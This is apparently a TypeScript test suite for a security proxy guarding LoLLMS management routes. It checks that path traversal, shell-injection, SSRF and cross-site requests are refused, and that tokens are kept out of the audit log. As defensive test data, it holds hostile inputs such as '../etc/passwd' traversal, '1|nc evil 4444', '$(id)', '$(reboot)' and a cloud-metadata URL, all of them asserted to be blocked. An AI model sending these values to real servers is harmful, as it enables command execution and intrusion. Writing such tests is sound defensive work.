// LoLLMS shield through a real proxy and the double: exact naming of management routes, path values in every body
// shape, fetched URLs, cross-site Origins before authentication, path tokens kept out of the audit.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { startHarness, basePolicy, ADMIN_KEY, USER_KEY, type Harness } from '../../dev/harness.js';
import { rawRequest } from '../helpers/http.js';

let h: Harness;
const NAMED = ['*', 'POST /apply_settings', 'POST /install_extension', 'GET /switch_personal_path', 'POST /add_webpage', 'POST /select_database', 'POST /open_code_folder', 'POST /open_file'];

before(async () => {
  h = await startHarness({
    policy: (up, dir) =>
      basePolicy(up, dir, '\n[security.validation]\njson_only = false\n\n[security.cors]\norigins = ["https://app.example"]\n')
        .replace('[security.authorization.roles.admin]\nallow = ["*"]', `[security.authorization.roles.admin]\nallow = ${JSON.stringify(NAMED)}`),
  });
});
after(async () => {
  await h.close();
});

const auth = (key: string, extra: Record<string, string> = {}): Record<string, string> => ({ Authorization: `Bearer ${key}`, ...extra });
const send = (method: string, path: string, headers: Record<string, string>, body?: unknown) =>
  rawRequest(`${h.url}${path}`, {
    method,
    headers: body !== undefined && typeof body !== 'string' ? { 'Content-Type': 'application/json', ...headers } : headers,
    body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body),
  });
// OpenAI-shaped routes answer {"error": {"code"}}; LoLLMS native routes {"status": false, "error", "code"} (docs/errors.md).
const codeOf = (r: { body: string }): unknown => {
  const j = JSON.parse(r.body) as { error?: { code?: unknown } | string; code?: unknown };
  return typeof j.error === 'object' && j.error !== null ? j.error.code : j.code;
};

async function expectDenied(status: number, code: string, method: string, path: string, headers: Record<string, string>, body?: unknown): Promise<void> {
  const before = h.double.requests.length;
  const r = await send(method, path, headers, body);
  assert.equal(r.status, status, `${method} ${path}: ${r.body.slice(0, 200)}`);
  assert.equal(codeOf(r), code, `${method} ${path}`);
  assert.equal(h.double.requests.length, before, `${method} ${path} must not reach the upstream`);
}

test('a management route named exactly is forwarded; other spellings, methods and roles are not', async () => {
  const ok = await send('POST', '/apply_settings', auth(ADMIN_KEY), { config: { temperature: 0.2 } });
  assert.equal(ok.status, 200, ok.body);
  assert.equal(h.double.lastRequest()?.url, '/apply_settings');
  await expectDenied(403, 'route_not_allowed', 'POST', '/apply_settings/', auth(ADMIN_KEY), { config: {} });
  await expectDenied(403, 'route_not_allowed', 'POST', '/Apply_Settings', auth(ADMIN_KEY), { config: {} });
  await expectDenied(403, 'route_not_allowed', 'POST', '/apply_settings;v=1', auth(ADMIN_KEY), { config: {} });
  await expectDenied(403, 'route_not_allowed', 'POST', '/execute_code', auth(ADMIN_KEY), { code: '1' }); // "*" only
  await expectDenied(403, 'route_not_allowed', 'POST', '/apply_settings', auth(USER_KEY), { config: {} });
});

test('path values are refused whatever the role: JSON (nested), urlencoded form, multipart fields and filenames, query', async () => {
  const a = auth(ADMIN_KEY);
  await expectDenied(400, 'path_not_allowed', 'POST', '/apply_settings', a, { config: { extensions: ['ok', '../../../tmp/evil'] } });
  await expectDenied(400, 'path_not_allowed', 'POST', '/apply_settings', a, { config: { discussion_db_name: 'C:\\db' } });
  await expectDenied(400, 'path_not_allowed', 'POST', '/select_database', a, { name: '/etc/x' });
  await expectDenied(400, 'path_not_allowed', 'POST', '/select_database', a, { name: 'file:///etc/x' });
  await expectDenied(400, 'path_not_allowed', 'POST', '/install_extension', { ...a, 'Content-Type': 'application/x-www-form-urlencoded' }, 'name=..%2F..%2Fx');
  const mp = (disp: string, value: string): string => `--B\r\nContent-Disposition: form-data; ${disp}\r\n\r\n${value}\r\n--B--\r\n`;
  await expectDenied(400, 'path_not_allowed', 'POST', '/install_extension', { ...a, 'Content-Type': 'multipart/form-data; boundary=B' }, mp('name="name"', '..\\x'));
  await expectDenied(400, 'path_not_allowed', 'POST', '/install_extension', { ...a, 'Content-Type': 'multipart/form-data; boundary=B' }, mp('name="file"; filename="../../x.py"', 'print(1)'));
  await expectDenied(400, 'path_not_allowed', 'GET', '/switch_personal_path?path=%2Ftmp', a);
  await expectDenied(400, 'path_not_allowed', 'GET', '/list_personalities?category=..', a);
  await expectDenied(400, 'path_not_allowed', 'GET', '/list_personalities?category=generic%00', auth(USER_KEY)); // before the role is known
  await expectDenied(400, 'path_not_allowed', 'GET', '/personalities/generic/..%2F..%2F..%2Fetc%2Fpasswd', a);
  // plain names still pass
  const fine = await send('POST', '/install_extension', a, { name: 'web_search' });
  assert.equal(fine.status, 200, fine.body);
  const fine2 = await send('GET', '/switch_personal_path?path=personal', a);
  assert.equal(fine2.status, 200, fine2.body);
});

test('once open_file / open_code_folder are allowed, values that reach an OS command carry no shell syntax (CVE-2024-1520, CVE-2024-4267)', async () => {
  const a = auth(ADMIN_KEY);
  for (const id of ['1 & calc.exe', '1; id', '1|nc evil 4444', '$(id)', '`id`', '1" && whoami && "', '1\nid', '%COMSPEC%']) {
    await expectDenied(400, 'path_not_allowed', 'POST', '/open_code_folder', a, { discussion_id: id });
  }
  await expectDenied(400, 'path_not_allowed', 'POST', '/open_code_folder?discussion_id=1%26calc', a, {});
  await expectDenied(400, 'path_not_allowed', 'POST', '/open_file', a, { path: 'notes.txt" & calc & "' });
  await expectDenied(400, 'path_not_allowed', 'POST', '/open_file', a, { path: 'x$(reboot).txt' });
  // an id, a plain relative file name still pass
  for (const body of [{ discussion_id: 12 }, { discussion_id: '12' }]) {
    const r = await send('POST', '/open_code_folder', a, body);
    assert.equal(r.status, 200, r.body);
  }
  const f = await send('POST', '/open_file', a, { path: 'outputs/notes-1.txt' });
  assert.equal(f.status, 200, f.body);
});

test('URLs the server fetches go through the SSRF guard (body and query)', async () => {
  await expectDenied(400, 'url_not_allowed', 'POST', '/add_webpage', auth(ADMIN_KEY), { url: 'http://127.0.0.1:9600/' });
  await expectDenied(400, 'url_not_allowed', 'POST', '/add_webpage?url=http%3A%2F%2F169.254.169.254%2F', auth(ADMIN_KEY));
});

test('cross-site: a foreign or null Origin is refused with 403 before authentication; listed and same-origin pass', async () => {
  await expectDenied(403, 'cross_site_request', 'POST', '/v1/chat/completions', { Origin: 'https://evil.example' }, { model: 'llama3-8b', messages: [] });
  await expectDenied(403, 'cross_site_request', 'POST', '/apply_settings', { ...auth(ADMIN_KEY), Origin: 'null' }, { config: {} });
  await expectDenied(403, 'cross_site_request', 'POST', '/v1/chat/completions', { ...auth(USER_KEY), Origin: 'http://127.0.0.1:1' }, { model: 'llama3-8b', messages: [] });
  const chat = { model: 'llama3-8b-instruct', messages: [{ role: 'user', content: 'hi' }] };
  const port = new URL(h.url).port;
  for (const origin of ['https://app.example', `http://127.0.0.1:${port}`, `http://localhost:${port}`]) {
    const r = await send('POST', '/v1/chat/completions', { ...auth(USER_KEY), Origin: origin }, chat);
    assert.equal(r.status, 200, `${origin}: ${r.body.slice(0, 200)}`);
  }
  const get = await send('GET', '/v1/models', { ...auth(USER_KEY), Origin: 'https://evil.example' });
  assert.equal(get.status, 200, 'reads are left to CORS');
  const noKey = await send('POST', '/v1/chat/completions', { Origin: 'https://app.example' }, chat);
  assert.equal(noKey.status, 401, 'a listed origin still needs a key');
});

test('audit: denials name the catalogue entry and its CVEs; a token in the path never reaches the audit file', async () => {
  await send('POST', '/execute_code', auth(ADMIN_KEY), { code: '1' });
  const secret = 'zq8Wtoken0000secret1111value2222';
  await send('GET', `/ws/dm/${secret}`, auth(USER_KEY));
  const lines = await h.auditLines();
  const denied = lines.filter((l) => (l.event as { action?: string }).action === 'access_denied' && String((l.event as { reason?: string }).reason).includes('code-execution'));
  assert.ok(denied.length >= 1, 'access_denied event names the entry');
  assert.match(String((denied[0].event as { reason: string }).reason), /CVE-2024-4326/);
  assert.equal((denied[0].rule as { name: string }).name, 'security.authorization.roles.admin.allow', 'the rule is the key path that did not name the route');
  const text = readFileSync(join(h.dir, 'audit.log'), 'utf8');
  assert.ok(!text.includes(secret), 'the path token is not in the audit log');
  assert.ok(text.includes('/ws/dm/{token}'), 'the path is templated');
});
